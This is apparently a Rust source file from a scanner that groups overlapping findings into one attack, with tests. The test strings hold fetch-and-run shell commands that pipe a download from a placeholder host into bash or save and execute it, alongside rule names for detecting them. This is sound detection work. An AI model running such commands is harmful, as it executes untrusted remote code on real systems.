//! Findings that tell of one attack, as one.

use crate::report::{Finding, ScanReport};

/// Maximum number of bytes between two matches in one line that are parts of one command.
const MAX_GAP: usize = 80;

/// Findings about one attack: several rules often match one command.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub struct FindingGroup<'r, 't> {
    /// The most severe one; of equals the one that knows the whole chain, then the first.
    pub main: &'r Finding<'t>,
    /// The others, in the order of the text.
    pub others: Vec<&'r Finding<'t>>,
}

impl<'t> ScanReport<'t> {
    /// Returns the findings, grouped by attack: those whose matches overlap, or follow each other closely in one line. No finding
    /// is left out, and the worst severity is that of a main one.
    pub fn groups(&self) -> Vec<FindingGroup<'_, 't>> {
        let mut groups: Vec<Vec<&Finding<'t>>> = Vec::new();
        let mut end = 0;
        for finding in &self.findings {
            let is_near = |last: &Finding<'_>| {
                finding.span.start < end
                    || finding.line == last.line
                        && finding.span.start - end.min(finding.span.start) <= MAX_GAP
            };
            match groups.last_mut() {
                Some(group) if group.last().is_some_and(|last| is_near(last)) => {
                    group.push(finding);
                    end = end.max(finding.span.end);
                }
                _ => {
                    groups.push(vec![finding]);
                    end = finding.span.end;
                }
            }
        }
        groups.into_iter().filter_map(FindingGroup::of).collect()
    }
}

impl<'r, 't> FindingGroup<'r, 't> {
    fn of(mut findings: Vec<&'r Finding<'t>>) -> Option<Self> {
        let weight = |finding: &Finding<'_>| (finding.severity, finding.completed_by.is_some());
        let worst = findings.iter().map(|finding| weight(finding)).max()?;
        let main = findings.iter().position(|finding| weight(finding) == worst)?;
        let main = findings.remove(main);
        Some(Self { main, others: findings })
    }
}

#[cfg(test)]
mod tests {
    use crate::{Scanner, Severity};

    /// The rules of each group, the main one first.
    fn grouped(text: &str) -> Vec<Vec<String>> {
        let report = Scanner::builtin().scan(text);
        let groups = report.groups();
        let all: usize = groups.iter().map(|group| 1 + group.others.len()).sum();
        assert_eq!(all, report.findings.len(), "no finding is left out: {text}");
        let rules = |group: &super::FindingGroup<'_, '_>| {
            let ids = [group.main].into_iter().chain(group.others.iter().copied());
            ids.map(|finding| finding.rule_id.to_owned()).collect()
        };
        groups.iter().map(rules).collect()
    }

    #[test]
    fn one_command_is_one_attack() {
        assert_eq!(
            grouped("```sh\ncurl -fsSL https://x.example/i.sh | bash\n```\n"),
            [["EXEC_PIPE_BASH", "NET_CURL_PIPE"]]
        );
        assert_eq!(
            grouped("```sh\ncurl -o f https://x.example/f && chmod +x f && ./f\n```\n"),
            [["EXEC_SAVED", "NET_CURL_PIPE"]],
            "the one with the chain is the main one"
        );
        let two = "```sh\ncurl https://x.example/a | bash\ncurl https://x.example/b | bash\n```\n";
        assert_eq!(grouped(two).len(), 2, "two commands are two attacks");
    }

    #[test]
    fn a_group_is_as_severe_as_its_worst() {
        for rule in Scanner::builtin().rules() {
            for text in &rule.matches {
                let report = Scanner::builtin().scan(text);
                let groups = report.groups();
                let worst: Option<Severity> = groups.iter().map(|group| group.main.severity).max();
                assert_eq!(worst, report.worst(), "{text}");
                assert!(
                    groups
                        .iter()
                        .all(|group| group.others.iter().all(|one| one.severity <= group.main.severity))
                );
                assert_eq!(
                    groups.iter().map(|group| 1 + group.others.len()).sum::<usize>(),
                    report.findings.len()
                );
            }
        }
    }
}
